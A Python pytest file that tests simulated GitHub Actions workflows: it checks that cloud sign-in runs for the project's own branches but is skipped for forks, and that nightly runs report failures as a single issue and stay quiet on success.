@pytest.mark.nightly
@pytest.mark.parametrize("step", sign_ins()[1], ids=["S3", "Google", "Azure"])
def test_a_job_signs_in_to_a_cloud_for_own_branches_and_a_fork_is_trained_without(
    site: Site, monkeypatch: pytest.MonkeyPatch, step: str
):
    action, name = re.findall(r"uses: ((\S+)@\S+)", step)[0]
    signed: list[dict[str, str]] = []

    def sign_in(inside: Any, given: dict[str, str]) -> dict[str, str]:
        assert inside.permissions["id-token"] == "write"
        signed.append(given)
        return {}

    monkeypatch.setitem(ACTIONS, name, sign_in)
    named = re.findall(r"vars\.(\w+)", step)
    site.runner.variables = {one: f"value of {one}" for one in named}
    file = site.work.root / ".github/workflows/train.yml"
    file.write_text(signed_in(file.read_text(), "train", sign_ins()[0], step))
    (site.work.root / "Makefile").write_text(".venv/.train: ;\npr: ; @mkdir -p reports && touch reports/report.json\n")
    own = site.train(site.push())
    fork = site.train(site.push("main", number=9, fork=True), number=9, fork=True)
    assert [ran.conclusion for ran in (own, fork)] == ["success", "success"], own.log() + fork.log()
    assert [ran.jobs["train"].step(action).outcome for ran in (own, fork)] == ["success", "skipped"]
    assert [sorted(given.values()) for given in signed] == [sorted(f"value of {one}" for one in named)]


def at_night(site: Site, workflow: str, **repository: Any) -> Ran:
    """Let the clock start a workflow."""
    pushed = site.push_to_main()
    return site.runner.run(workflow, replace(pushed, event="schedule", payload={"repository": HOME | repository}))


def test_a_bad_night_is_one_issue(site: Site):
    site.runner.variables = {"ASSAY_NIGHTLY": "true"}
    (site.work.root / "Makefile").write_text(TARGETS.format(failing="audit"))
    ran = at_night(site, "nightly.yml")
    again = site.runner.run(
        "nightly.yml", Trigger("workflow_dispatch", {"repository": HOME}, site.hub.run_git("rev-parse", "main"), MAIN)
    )
    for one in (ran, again):
        assert [name for name, job in one.jobs.items() if job.result == "failure"] == ["night"], one.log()
        assert one.jobs["alarm"].result == "success", one.log()
    (issue,) = site.hub.issues
    assert "/actions/runs/" in issue["body"]
    assert len(site.hub.reports(issue["number"])) == 1


def test_a_good_night_is_quiet(site: Site):
    site.runner.variables = {"ASSAY_NIGHTLY": "true"}
    (site.work.root / "Makefile").write_text(TARGETS.format(failing="nothing"))
    ran = at_night(site, "nightly.yml")
    assert ran.jobs["night"].result == "success", ran.log()
    assert ran.jobs["alarm"].result == "skipped"
    assert site.hub.issues == []


def test_where_the_night_is_not_switched_on_nothing_runs(site: Site):
    (site.work.root / "Makefile").write_text(TARGETS.format(failing="repro"))
    ran = at_night(site, "nightly.yml")
    assert {job.result for job in ran.jobs.values()} == {"skipped"}


@pytest.mark.parametrize(("is_template", "result"), [(True, "success"), (False, "skipped")])
@pytest.mark.parametrize("workflow", ["package-ci.yml", "package-nightly.yml"])
def test_the_package_is_tested_in_the_template_alone(site: Site, workflow: str, is_template: bool, result: str):
    (site.work.root / "Makefile").write_text(TARGETS.format(failing="nothing"))
    if workflow == "package-nightly.yml":
        ran = at_night(site, workflow, is_template=is_template)
    else:
        pushed = site.push_to_main()
        payload = pushed.payload | {"repository": HOME | {"is_template": is_template}}
        ran = site.runner.run(workflow, replace(pushed, payload=payload))
    assert {job.result for name, job in ran.jobs.items() if name != "alarm"} == {result}, ran.log()
